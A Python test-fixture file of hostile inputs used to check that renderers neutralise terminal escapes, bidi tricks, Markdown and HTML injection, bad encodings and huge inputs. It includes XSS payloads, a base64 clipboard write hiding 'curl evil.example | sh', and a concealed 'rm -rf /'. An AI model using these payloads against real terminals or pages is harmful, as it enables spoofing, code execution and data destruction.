"""Hostile text: what a deployment script, an AWS field or a log can contain, and must never do harm.

Every entry is run through every renderer (``test_hostile_text.py``). ``MARKER`` sits inside the
markup entries, so a test can tell whether the markup took effect (an element built around the
marker) or was shown as text.
"""

from __future__ import annotations

MARKER = "EVILMARK"

ESC = "\x1b"

HOSTILE_TEXTS: dict[str, str] = {
    # Terminal escapes: CSI (colours, cursor moves, erase screen), 8-bit CSI, OSC 8 hyperlinks,
    # OSC 0/2 window titles, OSC 52 clipboard writes, DCS, SOS/PM/APC, unterminated sequences.
    "csi-colour": f"{ESC}[31;1mred{ESC}[0m plain",
    "csi-clear-screen": f"before{ESC}[2J{ESC}[H{ESC}[3Jafter",
    "csi-cursor-up-overwrite": f"Succeeded{ESC}[1A{ESC}[2K\rFAKE LINE",
    "csi-8bit": "\x9b31mred\x9bm",
    "csi-utf8-encoded-c1": "\u009b31mred\u009b0m",
    "osc8-hyperlink": f"{ESC}]8;;https://evil.example/{MARKER}{ESC}\\click here{ESC}]8;;{ESC}\\",
    "osc8-bel": f"{ESC}]8;;https://evil.example/{MARKER}\x07click{ESC}]8;;\x07",
    "osc0-window-title": f"{ESC}]0;pwned {MARKER}\x07text",
    "osc2-window-title-st": f"{ESC}]2;pwned {MARKER}{ESC}\\text",
    "osc52-clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07text",
    "osc-8bit": f"\x9d0;title {MARKER}\x9ctext",
    "dcs-decrqss": f"{ESC}P$q m{ESC}\\text",
    "dcs-8bit": f"\x90evil {MARKER}\x9ctext",
    "sos-pm-apc": f"{ESC}X sos {ESC}\\{ESC}^ pm {ESC}\\{ESC}_ apc {ESC}\\text",
    "unterminated-osc": f"{ESC}]0;never ends {MARKER}\nnext line survives",
    "lone-esc": f"a{ESC}b{ESC}",
    "esc-charset-and-reset": f"{ESC}(0lqqk{ESC}(B{ESC}c{ESC}7{ESC}8text",
    "nested-escape-trick": f"{ESC}{ESC}[31m[31m{ESC}[[0m",
    # Other control characters.
    "nul-bytes": "null\x00byte\x00\x00end",
    "c0-controls": "bell\x07 backspace\x08\x08 vt\x0b ff\x0c so\x0e si\x0f del\x7f",
    "c1-controls": "nel\x85 ssa\x86 osc\x9d st\x9c",
    "carriage-return-overwrite": "rm -rf / \rls -la (looks innocent)",
    "crlf-script": "line one\r\nline two\r\n",
    "tabs": "col1\tcol2\tcol3",
    # Bidirectional overrides and invisible characters (Trojan Source, spoofed ids).
    "bidi-rlo": "i-0123\u202eexe.txt\u202c",
    "bidi-isolates": "\u2066admin\u2069 \u2067x\u2069 \u2068y\u2069",
    "bidi-marks": "\u200eltr\u200frtl\u061carabic",
    "zero-width": "pass\u200bword\u200c\u200d\u2060\ufeff",
    "tag-characters": "ok\U000e0041\U000e0042\U000e007f",
    "line-separators": "a\u2028b\u2029c\u0085d",
    # Rich markup, emoji codes, highlighting bait.
    "rich-markup": f"[bold red]{MARKER}[/] [link=https://evil.example]{MARKER}[/link] [/]",
    "rich-closing-tag-only": "[/bold] [/] [/link]",
    "rich-emoji-code": ":skull: :warning: :x:",
    "rich-escaped-bracket": "\\[bold]not bold\\[/bold]",
    # Markdown and HTML.
    "html-script": f'<script>alert("{MARKER}")</script>',
    "html-img-onerror": f'<img src=x onerror=alert("{MARKER}")>',
    "html-iframe": f'<iframe src="https://evil.example/{MARKER}"></iframe>',
    "html-details": f"<details open><summary>{MARKER}</summary>hidden</details>",
    "html-comment": f"<!-- {MARKER} -->visible",
    "html-close-pre": f"</pre></details><h1>{MARKER}</h1><pre>",
    "html-entities": f"&lt;script&gt;{MARKER}&amp;&#x3C;",
    "md-heading": f"# {MARKER} heading\n## {MARKER} sub",
    "md-setext-heading": f"{MARKER}\n=====",
    "md-link": f"[click me](javascript:alert('{MARKER}'))",
    "md-autolink": f"<https://evil.example/{MARKER}> https://evil.example/{MARKER}",
    "md-image": f"![{MARKER}](https://evil.example/{MARKER}.png)",
    "md-emphasis": f"**{MARKER}** __{MARKER}__ *{MARKER}* ~~{MARKER}~~",
    "md-code-fence-break": f"```\n{MARKER} escaped the fence\n```\n~~~~\n{MARKER}\n~~~~",
    "md-backticks": f"`{MARKER}` `` ` `` ````",
    "md-table-break": f"| {MARKER} | x |\n|---|---|\n| a | b |",
    "md-pipe-in-cell": f"a | b | {MARKER} |",
    "md-blockquote-list": f"> {MARKER}\n- item\n1. first\n    indented code",
    "md-hard-break-html": f"line<br>{MARKER}<hr>",
    "md-reference-link": f"[{MARKER}][ref]\n\n[ref]: https://evil.example/",
    "github-mention-and-ref": f"@everyone @org/team #1 {MARKER}",
    "github-workflow-command": f"::error file=x::{MARKER}\n::set-output name=x::y\n::add-mask::z",
    # Encoding trouble.
    "lone-surrogates": "bad \udcff\ud800 surrogates \udfff",
    "replacement-and-nonchar": "\ufffd\uffff\ufffe",
    "astral-and-combining": "e\u0301\u0301\u0301 \U0001f4a5 \U0001d54f",
    "right-to-left-text": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    # Size.
    "megabyte-line": "A" * 1_000_000,
    "megabyte-of-escapes": f"{ESC}[31m" * 200_000,
    "many-short-lines": "line\n" * 5_000,
    "megabyte-no-spaces-with-secret-at-cut": "x" * (1_000_000 - 70_000) + " AKIAIOSFODNN7EXAMPLE " + "y" * 70_000,
    "deep-brackets": "[" * 50_000 + "]" * 50_000,
    "empty": "",
    "only-whitespace": " \n\t\n ",
}
"""Name -> hostile text."""

SECRET_IN_HOSTILE = "AKIAIOSFODNN7EXAMPLE"
"""An access key id hidden in several entries: it must be masked wherever it survives cleaning."""

HOSTILE_BYTES: dict[str, bytes] = {
    "invalid-utf8": b"caf\xe9 \xff\xfe \xc3\x28 \xed\xa0\x80 ok",
    "overlong-utf8": b"\xc0\xaf \xe0\x80\xaf",
    "utf16-bom": "\ufeffhello".encode("utf-16"),
    "escape-bytes": b"\x1b[31mred\x1b]0;title\x07 \x9b31m",
    "nul-bytes": b"a\x00b\x00",
}
"""Raw bytes as an --agent-log file or a bytes field can hold them."""
